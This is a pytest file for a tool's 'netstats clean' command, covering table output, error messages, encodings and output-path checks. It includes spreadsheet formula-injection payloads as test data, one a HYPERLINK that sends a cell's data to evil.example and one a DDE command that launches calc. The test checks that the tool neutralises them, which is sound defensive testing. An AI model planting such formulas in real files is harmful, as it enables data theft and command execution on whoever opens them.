"""The command line: ``netstats clean`` writes the tables; errors are one line and exit status 2."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from test_load_quirks import IN, connections_csv, line, write_export

import netstats as ns
from netstats import schema as S
from netstats._cli import main

ERA = Path(__file__).parent / "fixtures" / "eras" / "2026-03"
TABLES = ("connections", "messages", "invitations", "contacts", "ledger", "excluded", "quarantine")

# research/threats.md §5 XLS-1: text a spreadsheet would run as a formula.
FORMULAS = {
    "company": '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
    "position": "@SUM(1+1)*cmd|' /C calc'!A0",
    "first": "+1 555 0100",
    "last": "-2+3",
}


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "netstats", *args], capture_output=True, text=True, timeout=120)


@pytest.fixture(scope="module")
def cleaned(tmp_path_factory) -> tuple[Path, ns.Export]:
    out = tmp_path_factory.mktemp("tables")
    assert main(["clean", str(ERA), "-o", str(out), "--quiet"]) == 0
    return out, ns.load(ERA)


def test_clean_writes_parquet_and_csv_for_every_table(cleaned):
    out, _ = cleaned
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{t}.{ext}" for t in TABLES for ext in ("csv", "parquet"))


@pytest.mark.parametrize("table", TABLES)
def test_parquet_holds_the_tables_exactly(cleaned, table):
    out, ex = cleaned
    expected = getattr(ex, table)
    got = pd.read_parquet(out / f"{table}.parquet")  # a plain read works, list column included
    assert list(got.columns) == list(expected.columns)
    if S.RECIPIENT_IDS in expected:
        assert [list(ids) for ids in got[S.RECIPIENT_IDS]] == [list(ids) for ids in expected[S.RECIPIENT_IDS]]
        arrow = pd.read_parquet(out / f"{table}.parquet", dtype_backend="pyarrow")[S.RECIPIENT_IDS]
        assert arrow.tolist() == expected[S.RECIPIENT_IDS].tolist()
        got, expected = got.drop(columns=S.RECIPIENT_IDS), expected.drop(columns=S.RECIPIENT_IDS)
    pd.testing.assert_frame_equal(got, expected, check_index_type=False)


def test_csv_tables_read_back_as_the_same_text(cleaned):
    out, ex = cleaned
    messages = pd.read_csv(out / "messages.csv", dtype=str, keep_default_na=False)
    assert messages.columns.tolist() == list(S.MESSAGES_COLUMNS)
    assert messages[S.CONTENT].tolist() == ex.messages[S.CONTENT].fillna("").tolist()  # real newlines survive
    assert messages[S.RECIPIENT_IDS].tolist() == [";".join(ids) for ids in ex.messages[S.RECIPIENT_IDS]]
    ledger = pd.read_csv(out / "ledger.csv")
    assert ledger[S.ROWS_READ].tolist() == ex.ledger[S.ROWS_READ].tolist()  # numbers stay numbers


def test_clean_prints_the_ledger(tmp_path, capsys):
    assert main(["clean", str(ERA), "-o", str(tmp_path), "--quiet"]) == 0
    out = capsys.readouterr().out
    assert "messages.csv" in out and "13 = 13 + 0 + 0" in out
    assert "hidden profile" in out
    assert f"wrote 14 files to {tmp_path}" in out


def test_csv_formula_cells_are_neutralised_and_parquet_keeps_them(tmp_path):
    text = connections_csv(
        line(FORMULAS["first"], FORMULAS["last"], IN + "eve", "", FORMULAS["company"], FORMULAS["position"], "01 Jan 2020"),
        line("Tab", "Lead", IN + "tab", "", "Plain, Inc.", "\t=1+1", "02 Jan 2020"),
    )
    export = write_export(tmp_path / "export", {"Connections.csv": text})
    out = tmp_path / "out"
    assert main(["clean", str(export), "-o", str(out), "--quiet"]) == 0
    csv_table = pd.read_csv(out / "connections.csv", dtype=str, keep_default_na=False)
    first = csv_table.iloc[0]
    assert first[S.FIRST_NAME] == "'" + FORMULAS["first"]
    assert first[S.LAST_NAME] == "'" + FORMULAS["last"]
    assert first[S.COMPANY] == "'" + FORMULAS["company"]
    assert first[S.POSITION] == "'" + FORMULAS["position"]
    assert csv_table[S.COMPANY].tolist()[1] == "Plain, Inc."
    # the loader strips the tab; what is left still starts a formula
    assert csv_table[S.POSITION].tolist()[1] == "'=1+1"
    assert csv_table[S.SOURCE_LINE].tolist() == ["5", "6"]  # a number, not neutralised
    for path in out.glob("*.csv"):
        for column in pd.read_csv(path, dtype=str, keep_default_na=False).items():
            assert not column[1].str.match(r"^[=+\-@\t\r|%]").any() or column[0] in (S.SOURCE_LINE, S.LINE), (path, column[0])
    parquet = pd.read_parquet(out / "connections.parquet")
    assert parquet[S.COMPANY].tolist() == [FORMULAS["company"], "Plain, Inc."]
    assert parquet[S.POSITION].tolist() == [FORMULAS["position"], "=1+1"]


def test_python_dash_m_netstats_help():
    result = run("--help")
    assert result.returncode == 0
    assert result.stdout.startswith("usage: netstats")
    for command in ("clean", "report", "sample"):
        assert command in result.stdout
    clean = run("clean", "--help")
    assert clean.returncode == 0 and "--encoding" in clean.stdout


@pytest.mark.parametrize(
    "files, expected",
    [
        ({"Connections.csv": "Vorname,Nachname\nBea,Lopez\n"}, "netstats: error: Connections.csv, line 1: the header was not recognised"),
        ({"Skills.csv": "Name\nPython\n"}, "holds none of the files netstats reads"),
        ({"Connections.csv": connections_csv('Bea,"Lopez,,,,,01 Jan 2020')}, "netstats: error: Connections.csv, line 5: a quoted field"),
    ],
    ids=["unknown-header", "not-an-export", "open-quote"],
)
def test_errors_exit_2_with_one_line_and_no_traceback(tmp_path, capsys, files, expected):
    export = write_export(tmp_path / "export", files)
    assert main(["clean", str(export), "-o", str(tmp_path / "out"), "--quiet"]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.count("\n") == 1 and captured.err.startswith("netstats: error: ")
    assert expected in captured.err
    assert not (tmp_path / "out").exists()  # no partial output


def test_an_error_from_the_real_command_is_one_line(tmp_path):
    result = run("clean", str(tmp_path / "missing"), "-o", str(tmp_path / "out"))
    assert result.returncode == 2
    lines = [ln for ln in result.stderr.splitlines() if ln]
    assert lines[-1].startswith("netstats: error: ") and "no such file or folder" in lines[-1]
    assert "Traceback" not in result.stderr
    assert all(ln.startswith("netstats: ") for ln in lines)  # progress lines and the error, nothing else


def test_clean_with_an_encoding(tmp_path, capsys):
    data = "First Name,Last Name,Email Address,Company,Position,Connected On\nJan,M\xfcller,,Caf\xe9,,01 Jan 2020\n".encode("cp1252")
    export = write_export(tmp_path / "export", {"Connections.csv": data})
    assert main(["clean", str(export), "-o", str(tmp_path / "bad"), "--quiet"]) == 2
    assert "encoding='cp1252'" in capsys.readouterr().err
    assert main(["clean", str(export), "-o", str(tmp_path / "out"), "--quiet", "--encoding", "cp1252"]) == 0
    assert pd.read_parquet(tmp_path / "out" / "connections.parquet")[S.NAME].tolist() == ["Jan Müller"]


# ---------------------------------------------------------------- issue 13 point 6: netstats' own output
def test_clean_into_the_export_then_report_on_it_works_and_says_what_was_skipped(tmp_path):
    export = write_export(tmp_path / "export", {"Connections.csv": connections_csv(line("J\u00fcrgen", "Lee", IN + "jl", "", "Acme", "", "01 Jan 2020"))})
    first = run("clean", str(export), "-o", str(export / "tables"), "-q")
    assert first.returncode == 0, first.stderr
    assert (export / "tables" / "connections.csv").read_bytes().startswith("\ufeffplatform,contact_id,name".encode())
    again = run("clean", str(export), "-o", str(tmp_path / "second"), "-q")
    assert again.returncode == 0, again.stderr
    # the tables named like an export's files (the others are not read anyway)
    skipped = "tables/connections.csv, tables/invitations.csv, tables/messages.csv"
    assert f"note: 3 file(s) netstats wrote itself (netstats clean) were skipped: {skipped}." in again.stdout
    report = run("report", str(export), "-o", str(tmp_path / "report.html"), "-q")
    assert report.returncode == 0, report.stderr
    assert f"netstats: note: 3 file(s) netstats wrote itself (netstats clean) were skipped: {skipped}." in report.stderr
    # the export's own Connections.csv was read, once
    assert pd.read_parquet(tmp_path / "second" / "connections.parquet")[S.NAME].tolist() == ["J\u00fcrgen Lee"]


def test_csv_tables_have_a_bom_so_spreadsheets_show_non_ascii_names(cleaned):
    out, ex = cleaned
    for table in TABLES:
        data = (out / f"{table}.csv").read_bytes()
        assert data.startswith(b"\xef\xbb\xbf"), table
        assert pd.read_csv(out / f"{table}.csv", dtype=str, keep_default_na=False).columns.tolist() == list(getattr(ex, table).columns)


def test_one_of_its_own_tables_given_as_the_export_is_named_for_what_it_is(cleaned):
    out, _ = cleaned
    result = run("report", str(out / "connections.csv"), "-o", str(out.parent / "r.html"), "-q")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "the file is a table netstats wrote itself (netstats clean), not a file of an export" in result.stderr


# ---------------------------------------------------------------- issue 13 point 7: output-path mistakes
def _one_line_error(result: subprocess.CompletedProcess) -> str:
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    lines = [ln for ln in result.stderr.splitlines() if ln]
    assert len(lines) == 1 and lines[0].startswith("netstats: error: ")
    return lines[0]


def test_report_into_an_existing_folder_is_an_expected_fix_error(tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    error = _one_line_error(run("report", str(ERA), "-o", str(folder)))
    assert error == (
        f"netstats: error: {folder}: -o names an existing folder. Expected: the path of the HTML file to write. "
        f"Fix: name a file in it, e.g. -o {folder / 'report.html'}."
    )


def test_clean_into_an_existing_file_is_an_expected_fix_error(tmp_path):
    target = tmp_path / "tables.csv"
    target.write_text("keep me")
    error = _one_line_error(run("clean", str(ERA), "-o", str(target)))
    assert error == (
        f"netstats: error: {target}: -o names an existing file. Expected: a folder to write the tables to (created "
        "when missing). Fix: name a folder (a new one is created), e.g. -o tables."
    )
    assert target.read_text() == "keep me"


@pytest.mark.parametrize("command, name", [("clean", "tables"), ("report", "report.html")])
def test_an_output_under_a_file_is_an_expected_fix_error(tmp_path, command, name):
    (tmp_path / "file").write_text("x")
    error = _one_line_error(run(command, str(ERA), "-o", str(tmp_path / "file" / "sub" / name)))
    assert f"-o cannot be created: {tmp_path / 'file'} is a file, not a folder. Expected: " in error


@pytest.mark.parametrize("command, name", [("clean", "tables"), ("report", "report.html")])
def test_an_unwritable_output_is_an_expected_fix_error(tmp_path, command, name):
    # /proc takes no new file, whoever runs the test (root passes the permission check)
    error = _one_line_error(run(command, str(ERA), "-o", f"/proc/{name}", "-q"))
    assert error.startswith("netstats: error: /proc/") and ("could not write the output" in error or "is not writable" in error)
    assert "Fix: choose a" in error


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may write in any folder")
def test_a_folder_without_write_permission_is_refused_before_reading(tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    error = _one_line_error(run("report", str(ERA), "-o", str(locked / "report.html")))
    assert f"-o is not writable: you may not write in {locked}" in error


def test_the_characters_the_docstring_lists_are_exactly_those_that_get_a_quote():
    """write_tables' docstring names the characters that get a ' prefix: pinned on every ASCII character."""
    from netstats._text import spreadsheet_safe
    from netstats.report._tables import write_tables

    first = set("=+-@|%\t\r\n\x00")  # a cell starting with one of these
    after_blanks = set(" \t\r\n\x00\x0b\x0c")  # ... or with = + - @ after a run of these
    cells = [chr(c) + "x" for c in range(128)] + [chr(c) + "=x" for c in range(128)]
    safe = spreadsheet_safe(pd.DataFrame({"cell": cells}))["cell"].tolist()
    for cell, out in zip(cells, safe, strict=True):
        expected = cell[0] in first or (cell[0] in after_blanks and cell[1] == "=")
        assert out == ("'" + cell if expected else cell), repr(cell)
    doc = " ".join(write_tables.__doc__.split())
    assert "first character is ``=``, ``+``, ``-``, ``@``, ``|``, ``%``, a tab, a CR, an LF or a NUL" in doc
    assert "or that starts with ``=``, ``+``, ``-`` or ``@`` after spaces, tabs, CRs, LFs, NULs, vertical tabs or form feeds" in doc


def test_clean_into_the_export_folder_itself_is_refused_before_it_replaces_a_file(tmp_path):
    """On a disk that ignores case, connections.csv is the export's Connections.csv."""
    export = write_export(tmp_path / "export", {"connections.csv": connections_csv(line("Ann", "Lee", IN + "al", "", "", "", "01 Jan 2020"))})
    before = (export / "connections.csv").read_bytes()
    error = _one_line_error(run("clean", str(export), "-o", str(export)))
    assert error == (
        f"netstats: error: {export}: -o holds connections.csv, a file netstats did not write, which the table "
        "connections.csv would replace. Expected: a folder to write the tables to (created when missing), without "
        "files of an export in it. Fix: name another folder, e.g. -o tables inside the export."
    )
    assert (export / "connections.csv").read_bytes() == before
    assert sorted(p.name for p in export.iterdir()) == ["connections.csv"]
    again = run("clean", str(export), "-o", str(export / "tables"), "-q")  # its own tables may be replaced
    assert again.returncode == 0 and run("clean", str(export), "-o", str(export / "tables"), "-q").returncode == 0
